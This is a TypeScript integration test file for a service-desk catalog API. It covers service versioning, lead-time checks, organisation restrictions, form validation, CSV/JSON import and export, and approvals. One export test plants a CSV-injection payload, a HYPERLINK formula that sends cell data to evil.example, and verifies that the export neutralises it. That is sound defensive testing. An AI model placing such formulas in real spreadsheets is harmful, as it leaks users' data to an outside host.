import type { INestApplicationContext } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import { DateTime } from 'luxon';
import { OutboxRelayService } from '../../../src/modules/outbox/outbox-relay.service';
import { createTestApp, type TestApp } from '../../support/app';
import { createOrganisation, createUser } from '../../support/factories';
import { as, login, type Session } from '../../support/http';
import { startWorkerByHand } from '../../support/worker';
import { checkRequestForm } from '../../../web/lib/request-form';

const networkForm = [
  { key: 'ip', type: 'ipv4_cidr', label: 'Dirección IP', required: true },
  { key: 'puertos', type: 'port_list', label: 'Puertos', required: false },
  { key: 'autoriza', type: 'text', label: 'Quién autoriza', required: true },
];

describe('Service catalog (GCS 4.1–4.3)', () => {
  let t: TestApp;
  let manager: Session;
  let requester: Session;
  let outsider: Session;
  let agent: Session;
  let dependencyId: string;
  beforeAll(async () => {
    t = await createTestApp();
    const dep = await createOrganisation(t.dataSource, { kind: 'dependency' });
    const ur = await createOrganisation(t.dataSource, { kind: 'responsible_unit', parentId: dep.id });
    const area = await createOrganisation(t.dataSource, { kind: 'area', parentId: ur.id });
    const other = await createOrganisation(t.dataSource, { kind: 'dependency' });
    dependencyId = dep.id;
    const m = await createUser(t.dataSource, { roles: ['catalog_manager'] });
    const r = await createUser(t.dataSource, { roles: ['requester'], organisationId: area.id });
    const o = await createUser(t.dataSource, { roles: ['requester'], organisationId: other.id });
    const a = await createUser(t.dataSource, { roles: ['agent_l1'] });
    [manager, requester, outsider, agent] = [
      await login(t.url, m.email, m.password),
      await login(t.url, r.email, r.password),
      await login(t.url, o.email, o.password),
      await login(t.url, a.email, a.password),
    ];
  });
  afterAll(() => t.close());

  const create = (body: Record<string, unknown>) =>
    as(t.url, manager)
      .post('/api/v1/catalog/services')
      .send({ category: 'Telecomunicaciones', type: 'both', ...body });

  it('takes a service from draft to active to a new version to retired, with history and versions', async () => {
    const draft = (await create({ code: 'RED-01', name: 'Red de datos', form: networkForm }).expect(201)).body;
    expect(draft).toMatchObject({ status: 'draft', publishedVersion: 0 });
    // Requesters only ever see what they can order.
    await as(t.url, requester).get(`/api/v1/catalog/services/${draft.id}`).expect(404);
    // A draft cannot be ordered yet.
    const early = await as(t.url, requester).post('/api/v1/tickets').send({ serviceId: draft.id, title: 'x', description: 'y' }).expect(400);
    expect(early.body).toMatchObject({ code: 'TICKET_SERVICE_UNAVAILABLE', errors: [{ field: 'serviceId', message: expect.any(String) }] });

    const active = (await as(t.url, manager).post(`/api/v1/catalog/services/${draft.id}/publish`).expect(200)).body;
    expect(active).toMatchObject({ status: 'active', publishedVersion: 1 });
    const t1 = (
      await as(t.url, requester)
        .post('/api/v1/tickets')
        .send({
          serviceId: draft.id,
          title: 'Abrir puerto',
          description: 'Para el SIGUE',
          formData: { ip: '10.0.0.15', puertos: '443, 8443', autoriza: 'Director de área' },
        })
        .expect(201)
    ).body;
    expect(t1).toMatchObject({ formVersion: 1, formData: { ip: '10.0.0.15', puertos: ['443', '8443'], autoriza: 'Director de área' } });

    // Editing an active service makes version 2; the ticket keeps version 1 and its answers.
    const edited = (
      await as(t.url, manager)
        .patch(`/api/v1/catalog/services/${draft.id}`)
        .send({ form: [...networkForm, { key: 'extension', type: 'text', label: 'Extensión', required: true }] })
        .expect(200)
    ).body;
    expect(edited.publishedVersion).toBe(2);
    const detail = (await as(t.url, agent).get(`/api/v1/tickets/${t1.id}`).expect(200)).body;
    expect(detail).toMatchObject({ formVersion: 1, formData: { ip: '10.0.0.15' } });
    // The labels are those of version 1, not of the edited form.
    expect(detail.formFields.map((f: { key: string; label: string }) => `${f.key}:${f.label}`)).toEqual([
      'ip:Dirección IP',
      'puertos:Puertos',
      'autoriza:Quién autoriza',
    ]);
    expect((await as(t.url, requester).get(`/api/v1/tickets/${t1.id}`).expect(200)).body.formFields).toHaveLength(3);
    const missing = await as(t.url, requester)
      .post('/api/v1/tickets')
      .send({ serviceId: draft.id, title: 'x', description: 'y', formData: { ip: '10.0.0.16', autoriza: 'Yo' } })
      .expect(400);
    expect(missing.body.errors).toEqual([{ field: 'formData.extension', message: 'Extensión es obligatorio' }]);

    await as(t.url, manager).post(`/api/v1/catalog/services/${draft.id}/retire`).expect(200);
    await as(t.url, requester).post('/api/v1/tickets').send({ serviceId: draft.id, title: 'x', description: 'y' }).expect(400);
    // Open tickets continue after a retirement.
    await as(t.url, agent).post(`/api/v1/tickets/${t1.id}/take`).send({}).expect(200);
    const illegal = await as(t.url, manager).post(`/api/v1/catalog/services/${draft.id}/retire`).expect(409);
    expect(illegal.body).toMatchObject({ code: 'CATALOG_ILLEGAL_TRANSITION', allowed: ['publish'] });
    await as(t.url, manager).patch(`/api/v1/catalog/services/${draft.id}`).send({ name: 'Otro nombre' }).expect(409);

    const versions = (await as(t.url, manager).get(`/api/v1/catalog/services/${draft.id}/versions`).expect(200)).body.items;
    expect(versions.map((v: { version: number }) => v.version)).toEqual([2, 1]);
    const audit = await t.dataSource.query(
      `SELECT field, old_value, new_value FROM audit_log WHERE entity = 'catalog_service' AND entity_id = $1 AND field = 'status' ORDER BY id`,
      [draft.id],
    );
    expect(audit.map((a: { old_value: string; new_value: string }) => `${a.old_value}→${a.new_value}`)).toEqual(['draft→active', 'active→retired']);
  });

  it('rejects a request date inside the lead time with a 400 naming the rule', async () => {
    const svc = (
      await create({
        code: 'EVT-01',
        name: 'Soporte a eventos',
        type: 'service_request',
        leadTimeDays: 15,
        status: 'active',
        form: [{ key: 'fecha', type: 'date', label: 'Fecha del evento', required: true }],
      }).expect(201)
    ).body;
    const today = DateTime.now().setZone('America/Mexico_City');
    const tooSoon = await as(t.url, requester)
      .post('/api/v1/tickets')
      .send({
        type: 'service_request',
        serviceId: svc.id,
        title: 'Evento',
        description: 'Informe anual',
        formData: { fecha: today.plus({ days: 10 }).toISODate() },
      })
      .expect(400);
    expect(tooSoon.body.errors).toEqual([{ field: 'formData.fecha', message: expect.stringContaining('al menos 15 días de anticipación') }]);
    await as(t.url, requester)
      .post('/api/v1/tickets')
      .send({
        type: 'service_request',
        serviceId: svc.id,
        title: 'Evento',
        description: 'Informe anual',
        formData: { fecha: today.plus({ days: 16 }).toISODate() },
      })
      .expect(201);
  });

  it('gives the portal the desk’s zone in /me, so its lead-time check draws the line where the server does', async () => {
    const fields = [{ key: 'fecha', type: 'date' as const, label: 'Fecha del evento', required: true }];
    const svc = (
      await create({ code: 'EVT-02', name: 'Montaje de sala', type: 'service_request', leadTimeDays: 15, status: 'active', form: fields }).expect(201)
    ).body;
    const me = (await as(t.url, requester).get('/api/v1/me').expect(200)).body;
    expect(me.deskTimeZone).toBe(t.config.deskTimeZone);
    const today = DateTime.now().setZone(me.deskTimeZone);
    for (const days of [14, 15]) {
      const fecha = today.plus({ days }).toISODate()!;
      const portalOk = Object.keys(checkRequestForm(fields, { fecha }, { days: 15, deskTimeZone: me.deskTimeZone })).length === 0;
      const server = await as(t.url, requester)
        .post('/api/v1/tickets')
        .send({ type: 'service_request', serviceId: svc.id, title: 'Sala', description: 'Reunión', formData: { fecha } });
      expect({ days, portalOk, status: server.status }).toEqual({ days, portalOk: days === 15, status: days === 15 ? 201 : 400 });
    }
  });

  it('hides a restricted service from other organisations, who can neither see nor order it', async () => {
    const svc = (await create({ code: 'VOZ-01', name: 'Red de voz', status: 'active', restricted: true, allowedOrganisationIds: [dependencyId] }).expect(201))
      .body;
    // The requester's area is under the allowed dependency.
    const mine = await as(t.url, requester).get('/api/v1/catalog/services?pageSize=200').expect(200);
    expect(mine.body.items.map((s: { id: string }) => s.id)).toContain(svc.id);
    const theirs = await as(t.url, outsider).get('/api/v1/catalog/services?pageSize=200').expect(200);
    expect(theirs.body.items.map((s: { id: string }) => s.id)).not.toContain(svc.id);
    await as(t.url, outsider).get(`/api/v1/catalog/services/${svc.id}`).expect(404);
    await as(t.url, outsider).post('/api/v1/tickets').send({ serviceId: svc.id, title: 'x', description: 'y' }).expect(400);
    await as(t.url, requester).post('/api/v1/tickets').send({ serviceId: svc.id, title: 'Extensión nueva', description: 'y' }).expect(201);
  });

  it('refuses a service restricted to no organisation, on create and on edit', async () => {
    const none = await create({ code: 'VOZ-02', name: 'Red de voz restringida', restricted: true }).expect(400);
    expect(none.body.errors).toEqual([{ field: 'allowedOrganisationIds', message: expect.stringContaining('al menos una organización') }]);
    const open = (await create({ code: 'VOZ-03', name: 'Red de voz abierta' }).expect(201)).body;
    const edit = await as(t.url, manager).patch(`/api/v1/catalog/services/${open.id}`).send({ restricted: true, version: open.version }).expect(400);
    expect(edit.body.errors.map((e: { field: string }) => e.field)).toEqual(['allowedOrganisationIds']);
    await as(t.url, manager)
      .patch(`/api/v1/catalog/services/${open.id}`)
      .send({ restricted: true, allowedOrganisationIds: [dependencyId], version: open.version })
      .expect(200);
  });

  it('puts in each support-level slot only a team of that level', async () => {
    const team = async (name: string, level: string) =>
      ((await t.dataSource.query(`INSERT INTO teams (name, support_level, version) VALUES ($1, $2, 1) RETURNING id`, [name, level])) as { id: string }[])[0].id;
    const [desk, network] = [await team('Mesa L1 prueba', '1'), await team('Redes L2 prueba', '2')];
    const wrong = await create({ code: 'EQ-01', name: 'Equipos cruzados', teamL1Id: network, teamL2Id: desk }).expect(400);
    expect(wrong.body.errors).toEqual([
      { field: 'teamL1Id', message: 'el equipo no es de nivel 1' },
      { field: 'teamL2Id', message: 'el equipo no es de nivel 2' },
    ]);
    const ok = (await create({ code: 'EQ-02', name: 'Equipos en su nivel', teamL1Id: desk, teamL2Id: network }).expect(201)).body;
    const moved = await as(t.url, manager).patch(`/api/v1/catalog/services/${ok.id}`).send({ teamFieldId: desk, version: ok.version }).expect(400);
    expect(moved.body.errors.map((e: { field: string }) => e.field)).toEqual(['teamFieldId']);
  });

  it('refuses a broken form definition, naming each bad field', async () => {
    const res = await create({ code: 'BAD-01', name: 'Mal formulario', form: [{ key: 'Mala Clave', type: 'select', label: 'x', required: true }] }).expect(400);
    expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual(['form.0.key', 'form.0.validation.options']);
  });

  it('refuses at save time a form pattern the linear-time engine cannot run, and runs the others on it', async () => {
    const lookahead = [{ key: 'clave', type: 'text', label: 'Clave', required: true, validation: { regex: '^(?=.*\\d)\\w+$' } }];
    const refused = await create({ code: 'RX-01', name: 'Patrón', form: lookahead }).expect(400);
    expect(refused.body.errors).toEqual([{ field: 'form.0.validation.regex', message: expect.stringContaining('RE2') }]);
    const imported = await as(t.url, manager)
      .post('/api/v1/catalog/services/import')
      .send({ format: 'json', services: [{ code: 'RX-02', name: 'Patrón', category: 'Soporte', type: 'both', form: lookahead }] })
      .expect(400);
    expect(imported.body.errors.map((e: { field: string }) => e.field)).toEqual(['rows.0.form.0.validation.regex']);

    const words = [{ key: 'nombre', type: 'text', label: 'Nombre', required: true, validation: { regex: '^(\\w+\\s?)*$' } }];
    const svc = (await create({ code: 'RX-03', name: 'Nombres', status: 'active', form: words }).expect(201)).body;
    const bad = await as(t.url, requester)
      .post('/api/v1/tickets')
      .send({ serviceId: svc.id, title: 'x', description: 'y', formData: { nombre: 'a'.repeat(27) + '!' } })
      .expect(400);
    expect(bad.body.errors).toEqual([{ field: 'formData.nombre', message: 'Nombre no tiene el formato esperado' }]);
    await as(t.url, requester)
      .post('/api/v1/tickets')
      .send({ serviceId: svc.id, title: 'x', description: 'y', formData: { nombre: 'Ana Torres' } })
      .expect(201);
  });

  it('tells the desk staff about each publication, in-app', async () => {
    await create({ code: 'NOTIF-01', name: 'Servicio nuevo', status: 'active' }).expect(201);
    const worker: INestApplicationContext = await startWorkerByHand(t.config);
    try {
      await worker.get(OutboxRelayService).relayBatch();
    } finally {
      await worker.close();
    }
    const inbox = await as(t.url, agent).get('/api/v1/notifications').expect(200);
    expect(inbox.body.items.map((n: { title: string }) => n.title)).toContain('Servicio publicado en el catálogo: Servicio nuevo (versión 1)');
  });
});

describe('Catalog documentation indicator', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('counts services with tickets whose sheet is complete, and lists what the others lack', async () => {
    const m = await login(t.url, ...(await createUser(t.dataSource, { roles: ['catalog_manager'] }).then((u) => [u.email, u.password] as const)));
    const r = await createUser(t.dataSource, { roles: ['requester'] });
    const sr = await login(t.url, r.email, r.password);
    const org = await createOrganisation(t.dataSource);
    const team = (
      await as(t.url, await login(t.url, ...(await createUser(t.dataSource, { roles: ['admin'] }).then((u) => [u.email, u.password] as const))))
        .post('/api/v1/teams')
        .send({ name: 'Mesa', supportLevel: '1' })
        .expect(201)
    ).body;
    const target = { responseMinutes: 10, resolutionMinutes: 960 };
    const full = (
      await as(t.url, m)
        .post('/api/v1/catalog/services')
        .send({
          code: 'DOC-1',
          name: 'Documentado',
          category: 'x',
          type: 'both',
          status: 'active',
          description: 'Ficha completa',
          ownerOrganisationId: org.id,
          teamL1Id: team.id,
          slaTargets: { critical: target, high: target, medium: target, low: target },
        })
        .expect(201)
    ).body;
    const thin = (
      await as(t.url, m).post('/api/v1/catalog/services').send({ code: 'DOC-2', name: 'Sin ficha', category: 'x', type: 'both', status: 'active' }).expect(201)
    ).body;
    await as(t.url, m).post('/api/v1/catalog/services').send({ code: 'DOC-3', name: 'Sin tickets', category: 'x', type: 'both', status: 'active' }).expect(201);
    for (const s of [full, thin]) await as(t.url, sr).post('/api/v1/tickets').send({ serviceId: s.id, title: 'x', description: 'y' }).expect(201);
    const res = await as(t.url, m).get('/api/v1/indicators/documented-services').expect(200);
    expect(res.body).toEqual({
      provided: 2,
      documented: 1,
      percentage: 50,
      incomplete: [{ id: thin.id, code: 'DOC-2', name: 'Sin ficha', missing: ['description', 'ownerOrganisationId', 'teamL1Id', 'slaTargets'] }],
    });
  });
});

describe('Catalog import and export', () => {
  let t: TestApp;
  let manager: Session;
  beforeAll(async () => {
    t = await createTestApp();
    const m = await createUser(t.dataSource, { roles: ['catalog_manager'] });
    manager = await login(t.url, m.email, m.password);
    await createOrganisation(t.dataSource, { code: 'SFIA' });
  });
  afterAll(() => t.close());

  const csv = (rows: string[][]) => rows.map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\n');

  it('imports a CSV, exports it back in both formats, and re-imports the export as updates', async () => {
    const form = JSON.stringify([{ key: 'ip', type: 'ipv4_cidr', label: 'Dirección IP', required: true }]);
    const content = csv([
      ['code', 'name', 'category', 'type', 'status', 'ownerOrganisation', 'leadTimeDays', 'form'],
      ['RED-DATOS', 'Red de datos', 'Telecomunicaciones', 'both', 'active', 'SFIA', '0', form],
      ['EVENTOS', 'Soporte a eventos, foros y "congresos"', 'Soporte', 'service_request', 'draft', '', '15', ''],
    ]);
    const res = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'csv', content }).expect(200);
    expect(res.body).toEqual({ created: 2, updated: 0 });
    const exportedCsv = await as(t.url, manager).get('/api/v1/catalog/services/export?format=csv').expect(200);
    expect(exportedCsv.headers['content-type']).toMatch(/text\/csv/);
    expect(exportedCsv.text).toContain('"Soporte a eventos, foros y ""congresos"""');
    const exportedJson = await as(t.url, manager).get('/api/v1/catalog/services/export?format=json').expect(200);
    const services = JSON.parse(exportedJson.text).services;
    expect(services.find((s: { code: string }) => s.code === 'RED-DATOS')).toMatchObject({
      status: 'active',
      ownerOrganisation: 'SFIA',
      form: [{ key: 'ip' }],
    });
    const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services }).expect(200);
    expect(again.body).toEqual({ created: 0, updated: 2 });
  });

  it('exports formula-like cells neutralised, and imports its own export back unchanged', async () => {
    const hostile = {
      code: 'FORMULA-1',
      name: '@Servicio',
      description: '=HYPERLINK("http://evil.example/?"&A1,"Ver detalle")',
      category: '+Soporte',
      subcategory: "'citado",
      type: 'both',
    };
    await as(t.url, manager)
      .post('/api/v1/catalog/services/import')
      .send({ format: 'json', services: [hostile] })
      .expect(200);
    const exported = await as(t.url, manager).get('/api/v1/catalog/services/export?format=csv').expect(200);
    const rows = parse(exported.text) as string[][];
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    const row = rows.find((r) => r[0] === 'FORMULA-1')!;
    expect(row.slice(1, 5)).toEqual(["'@Servicio", `'${hostile.description}`, "'+Soporte", "''citado"]);

    const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'csv', content: exported.text }).expect(200);
    expect(again.body.created).toBe(0);
    const [stored] = await t.dataSource.query(`SELECT name, description, category, subcategory FROM catalog_services WHERE code = 'FORMULA-1'`);
    expect(stored).toEqual({ name: hostile.name, description: hostile.description, category: hostile.category, subcategory: hostile.subcategory });
  });

  it('carries field conditions through export and import, and refuses unknown fields or values and cycles', async () => {
    const kind = { key: 'tipo', type: 'select', label: 'Tipo de solicitud', required: true, validation: { options: ['Apertura de puertos', 'Otro'] } };
    const ports = { key: 'puertos', type: 'port_list', label: 'Puertos', required: true, showWhen: { field: 'tipo', values: ['Apertura de puertos'] } };
    const why = { key: 'motivo', type: 'text', label: 'Motivo', required: false, requiredWhen: { field: 'tipo', values: ['Otro'] } };
    const service = { code: 'COND-1', name: 'Con condiciones', category: 'Redes', type: 'service_request', status: 'active', form: [kind, ports, why] };
    await as(t.url, manager)
      .post('/api/v1/catalog/services/import')
      .send({ format: 'json', services: [service] })
      .expect(200);
    const csvExport = await as(t.url, manager).get('/api/v1/catalog/services/export?format=csv').expect(200);
    const jsonExport = JSON.parse((await as(t.url, manager).get('/api/v1/catalog/services/export?format=json').expect(200)).text);
    expect(jsonExport.services.find((s: { code: string }) => s.code === 'COND-1').form).toEqual([kind, ports, why]);
    const again = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'csv', content: csvExport.text }).expect(200);
    expect(again.body.created).toBe(0);
    const [stored] = await t.dataSource.query(`SELECT form FROM catalog_services WHERE code = 'COND-1'`);
    expect(stored.form).toEqual([kind, ports, why]);

    const bad = [
      { ...service, code: 'COND-2', form: [kind, { ...ports, showWhen: { field: 'nada', values: ['x'] } }] },
      { ...service, code: 'COND-3', form: [kind, { ...why, requiredWhen: { field: 'tipo', values: ['Mudanza'] } }] },
      {
        ...service,
        code: 'COND-4',
        form: [
          { ...kind, showWhen: { field: 'tipo2', values: ['Otro'] } },
          { ...kind, key: 'tipo2', showWhen: { field: 'tipo', values: ['Otro'] } },
        ],
      },
    ];
    const res = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'json', services: bad }).expect(400);
    expect(res.body.errors).toEqual([
      { field: 'rows.0.form.1.showWhen.field', message: 'no existe el campo «nada» en este formulario' },
      { field: 'rows.1.form.1.requiredWhen.values', message: 'no son opciones de «Tipo de solicitud»: Mudanza' },
      { field: 'rows.2.form.0.showWhen.field', message: 'las condiciones forman un ciclo: tipo → tipo2 → tipo' },
    ]);
  });

  it('names a JSON row whose organisation list is not a list, instead of failing', async () => {
    const res = await as(t.url, manager)
      .post('/api/v1/catalog/services/import')
      .send({ format: 'json', services: [{ code: 'LISTA-1', name: 'x', category: 'c', type: 'both', allowedOrganisations: 'SFIA' }] })
      .expect(400);
    expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual(['rows.0.allowedOrganisationIds']);
  });

  it('applies nothing when any row is bad, and reports every bad row', async () => {
    const before = (await t.dataSource.query(`SELECT count(*)::int AS n FROM catalog_services`))[0].n;
    const content = csv([
      ['code', 'name', 'category', 'type', 'ownerOrganisation', 'form'],
      ['OK-1', 'Bueno', 'Soporte', 'incident', '', ''],
      ['BAD-1', '', 'Soporte', 'incident', '', ''],
      ['BAD-2', 'Tipo raro', 'Soporte', 'magic', 'NO-EXISTE', ''],
      ['BAD-3', 'Form roto', 'Soporte', 'incident', '', '[{"key":"Mala Clave","type":"text","label":"x"}]'],
    ]);
    const res = await as(t.url, manager).post('/api/v1/catalog/services/import').send({ format: 'csv', content }).expect(400);
    const fields = res.body.errors.map((e: { field: string }) => e.field);
    expect(fields).toEqual(expect.arrayContaining(['rows.1.name', 'rows.2.ownerOrganisation', 'rows.2.type', 'rows.3.form.0.key']));
    expect(fields.some((f: string) => f.startsWith('rows.0.'))).toBe(false);
    expect((await t.dataSource.query(`SELECT count(*)::int AS n FROM catalog_services`))[0].n).toBe(before);
  });
});

describe('Approvals for services that require them', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('holds the request for the requester’s head, who approves it into the desk or rejects it closed', async () => {
    const head = await createUser(t.dataSource, { roles: ['requester'], fullName: 'Titular del área' });
    const dep = await createOrganisation(t.dataSource, { kind: 'dependency' });
    const ur = await createOrganisation(t.dataSource, { kind: 'responsible_unit', parentId: dep.id });
    await t.dataSource.query(`UPDATE organisations SET head_user_id = $1 WHERE id = $2`, [head.id, ur.id]);
    const area = await createOrganisation(t.dataSource, { kind: 'area', parentId: ur.id });
    const requester = await createUser(t.dataSource, { roles: ['requester'], organisationId: area.id });
    const agent = await createUser(t.dataSource, { roles: ['agent_l1'] });
    const manager = await createUser(t.dataSource, { roles: ['catalog_manager'] });
    const [sr, sh, sa, sm] = [
      await login(t.url, requester.email, requester.password),
      await login(t.url, head.email, head.password),
      await login(t.url, agent.email, agent.password),
      await login(t.url, manager.email, manager.password),
    ];
    const svc = (
      await as(t.url, sm)
        .post('/api/v1/catalog/services')
        .send({ code: 'SIGUE', name: 'Acceso a SIGUE', category: 'Aplicaciones', type: 'service_request', status: 'active', approval: 'requester_head' })
        .expect(201)
    ).body;

    const first = (
      await as(t.url, sr)
        .post('/api/v1/tickets')
        .send({ type: 'service_request', serviceId: svc.id, title: 'Acceso de consulta', description: 'Ver notas' })
        .expect(201)
    ).body;
    expect(first).toMatchObject({ state: 'pending', pendingReason: 'approval', approvalStatus: 'pending', approverId: head.id });
    // Nobody works it before the decision; the approver can see it although it is not theirs.
    await as(t.url, sa).post(`/api/v1/tickets/${first.id}/transitions`).send({ to: 'in_progress', version: first.version }).expect(409);
    await as(t.url, sa).post(`/api/v1/tickets/${first.id}/take`).send({}).expect(409);
    await as(t.url, sh).get(`/api/v1/tickets/${first.id}`).expect(200);
    await as(t.url, sa).post(`/api/v1/tickets/${first.id}/approval`).send({ version: first.version, decision: 'approve' }).expect(403);
    const approved = (await as(t.url, sh).post(`/api/v1/tickets/${first.id}/approval`).send({ version: first.version, decision: 'approve' }).expect(200)).body;
    expect(approved).toMatchObject({ state: 'new', approvalStatus: 'approved', pendingReason: null });
    await as(t.url, sa).post(`/api/v1/tickets/${first.id}/take`).send({}).expect(200);

    const second = (
      await as(t.url, sr)
        .post('/api/v1/tickets')
        .send({ type: 'service_request', serviceId: svc.id, title: 'Acceso de administrador', description: 'Derechos únicos' })
        .expect(201)
    ).body;
    await as(t.url, sh).post(`/api/v1/tickets/${second.id}/approval`).send({ version: second.version, decision: 'reject' }).expect(400);
    const rejected = (
      await as(t.url, sh)
        .post(`/api/v1/tickets/${second.id}/approval`)
        .send({ version: second.version, decision: 'reject', reason: 'No se otorgan derechos de administrador' })
        .expect(200)
    ).body;
    expect(rejected).toMatchObject({ state: 'closed', approvalStatus: 'rejected', closeReason: 'No se otorgan derechos de administrador' });
    const history = (await as(t.url, sr).get(`/api/v1/tickets/${second.id}/history`).expect(200)).body.items;
    expect(history).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ action: 'approval', newValue: 'rejected', actorId: head.id, reason: 'No se otorgan derechos de administrador' }),
      ]),
    );
    expect(history[0]).toMatchObject({ action: 'create', field: 'state', newValue: 'pending', actorId: requester.id });
    const outbox = await t.dataSource.query(`SELECT event FROM outbox WHERE aggregate_id = $1 ORDER BY id`, [second.id]);
    expect(outbox.map((o: { event: string }) => o.event)).toEqual(['ticket.created', 'ticket.approval_requested', 'ticket.approval_rejected']);
  });

  it('refuses a service that needs approval when nobody can give it', async () => {
    const requester = await createUser(t.dataSource, { roles: ['requester'] });
    const manager = await createUser(t.dataSource, { roles: ['catalog_manager'] });
    const sm = await login(t.url, manager.email, manager.password);
    const svc = (
      await as(t.url, sm)
        .post('/api/v1/catalog/services')
        .send({ code: 'SIN-TITULAR', name: 'Sin titular', category: 'x', type: 'both', status: 'active', approval: 'catalog_owner' })
        .expect(201)
    ).body;
    const res = await as(t.url, await login(t.url, requester.email, requester.password))
      .post('/api/v1/tickets')
      .send({ serviceId: svc.id, title: 'x', description: 'y' })
      .expect(400);
    expect(res.body.errors[0].field).toBe('serviceId');
  });
});
